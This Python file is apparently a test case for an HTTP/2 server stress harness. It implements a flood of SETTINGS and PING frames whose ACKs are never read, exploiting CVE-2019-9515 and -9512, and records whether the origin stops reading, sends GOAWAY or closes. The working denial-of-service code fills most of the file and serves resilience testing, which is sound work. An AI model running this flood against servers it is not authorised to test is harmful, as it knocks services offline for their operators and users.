"""settings-flood: SETTINGS and PING frames sent without end, their ACKs never read.

Every SETTINGS and every PING obliges the origin to send an ACK (CVE-2019-9515, -9512). The
attacker never reads its socket (RawTLS: not a byte leaves the kernel's receive buffer), so
the ACKs pile up: first in the attacker's receive buffer, then in the origin's send buffer,
then wherever the origin keeps frames it could not write. A careful origin stops reading
(backpressure) or closes with GOAWAY ENHANCE_YOUR_CALM; a careless one buffers ACKs in memory.
Each of --count connections floods until its writes are refused for good or fail, then
reconnects; at the end of each connection the harness reads what had arrived, for a GOAWAY.
"""

import asyncio
import os
import socket
import ssl

import harness
import wire
from cases import Case

# A write the origin does not take within this long means it has stopped reading.
STALLED_S = 5.0
# SETTINGS_ENABLE_PUSH = 0: a valid setting that changes nothing, so each frame costs the origin
# only the ACK.
ENABLE_PUSH_OFF = b"\x00\x02\x00\x00\x00\x00"
# tcp_states.h: the state TCP_INFO reports while both ends are open.
TCP_ESTABLISHED = 1


def add_arguments(parser):
    parser.add_argument("--batch", type=int, default=500, help="frames per write, half SETTINGS, half PING (default 500)")


def flood_batch(size):
    frames = []
    for i in range(size):
        if i % 2:
            frames.append(wire.frame(wire.PING, 0, 0, os.urandom(8)))
        else:
            frames.append(wire.frame(wire.SETTINGS, 0, 0, ENABLE_PUSH_OFF))
    return b"".join(frames)


async def attack(run, args):
    workers = [asyncio.create_task(flood_loop(run, args)) for _ in range(args.count)]
    await asyncio.sleep(min(1.0, run.remaining()))
    run.established.set()
    results = await asyncio.gather(*workers, return_exceptions=True)
    return {"attempts": [a for r in results if isinstance(r, list) for a in r],
            "worker_errors": harness.error_counts(results)}


async def flood_loop(run, args):
    attempts = []
    batch = flood_batch(args.batch)
    while run.remaining() > 0:
        record = {"connected_at": run.clock(), "frames": 0}
        attempts.append(record)
        try:
            tls = await wire.RawTLS.connect(run.address, run.h2_context(), timeout=run.io_timeout())
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as error:
            record["ended_by"] = f"connect failed: {type(error).__name__}"
            await asyncio.sleep(0.1)
            continue
        try:
            await flood(run, tls, batch, args.batch, record)
            record["answer"] = await read_answer(tls)
        finally:
            tls.close()
        record["ended_by"] = verdict(record)
    return attempts


async def flood(run, tls, batch, batch_frames, record):
    """Writes batches until a write fails (the origin closed) or stays blocked past STALLED_S
    after the origin has had its chance to time the connection out."""
    try:
        await tls.send(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
        while run.remaining() > 0:
            try:
                await tls.send(batch, timeout=min(STALLED_S, run.remaining() + 0.1))
                record["frames"] += batch_frames
                record["last_progress_at"] = run.clock()
            except asyncio.TimeoutError:
                # Still blocked: the origin has stopped reading. The unsent rest of the batch is
                # dropped with the cancelled send; from here on the connection is only watched.
                record.setdefault("stalled_at", run.clock())
                await wait_for_close(run, tls, record)
                return
    except (OSError, ssl.SSLError) as error:
        record.update(closed_at=run.clock(), write_error=type(error).__name__)


async def wait_for_close(run, tls, record):
    """Polls for the origin's close without reading a byte: its RST shows in SO_ERROR, its FIN
    in the TCP state (TCP_INFO's first byte leaves ESTABLISHED)."""
    while run.remaining() > 0:
        error = tls.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        state = tls.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
        if error or state != TCP_ESTABLISHED:
            record.update(closed_at=run.clock(), write_error=os.strerror(error) if error else f"TCP state {state}")
            return
        await asyncio.sleep(0.25)


async def read_answer(tls):
    """After the flood, what the origin had sent: ACK counts and any GOAWAY."""
    try:
        data = await tls.recv_plain(timeout=2.0)
    except (OSError, ssl.SSLError) as error:
        return {"read_error": type(error).__name__}
    answer = {"settings_acks": 0, "ping_acks": 0, "goaway": None, "bytes": len(data)}
    for kind, flags, stream_id, payload in wire.FrameParser().feed(data):
        if kind == wire.SETTINGS and flags & wire.ACK:
            answer["settings_acks"] += 1
        elif kind == wire.PING and flags & wire.ACK:
            answer["ping_acks"] += 1
        elif kind == wire.GOAWAY and answer["goaway"] is None:
            answer["goaway"] = wire.describe_frame(kind, flags, stream_id, payload)["error"]
    return answer


def verdict(record):
    answer = record.get("answer") or {}
    if answer.get("goaway"):
        return f"GOAWAY {answer['goaway']}"
    if "closed_at" in record:
        return f"closed ({record.get('write_error')})"
    if "stalled_at" in record:
        return "stopped reading, still open at the end"
    return "took everything until the deadline"


def rows(report, args):
    result = report["attack"]
    if "attempts" not in result:
        return [("attack", result.get("error", "failed"), None, None)]
    attempts = [a for a in result["attempts"] if not a["ended_by"].startswith("connect failed")]
    # The origin stopped reading when the last write went through, STALLED_S before it was noticed.
    stalled = [a.get("last_progress_at", a["connected_at"]) - a["connected_at"] for a in attempts if "stalled_at" in a]
    closed = [a["closed_at"] - a["connected_at"] for a in attempts if "closed_at" in a]
    acks = [(a.get("answer") or {}).get("settings_acks", 0) + (a.get("answer") or {}).get("ping_acks", 0) for a in attempts]
    return [
        ("flooding connections", str(len(attempts)), None, None),
        ("how they ended", str(harness.counts(a["ended_by"] for a in attempts)), None, None),
        ("frames the origin took per connection", harness.fmt_spread(harness.spread(a["frames"] for a in attempts),
                                                                     unit="frames"), None, None),
        ("origin stopped reading after", harness.fmt_spread(harness.spread(stalled)), None, None),
        ("origin closed after", harness.fmt_spread(harness.spread(closed)), None, None),
        ("ACKs waiting unread in our buffer at the end", harness.fmt_spread(harness.spread(acks), unit="frames"), None, None),
        harness.attacker_errors_row(result),
    ]


CASE = Case(
    doc=__doc__,
    name="settings-flood",
    summary="SETTINGS and PING floods whose ACKs are never read: closes and RSS",
    count=2, count_means="flooding connections at once (each reconnects)", seconds=20,
    documented="--count 8 --seconds 90 --set server.send_timeout=60s",
    attack=attack, rows=rows, add_arguments=add_arguments, extra_parameters=("batch",),
)
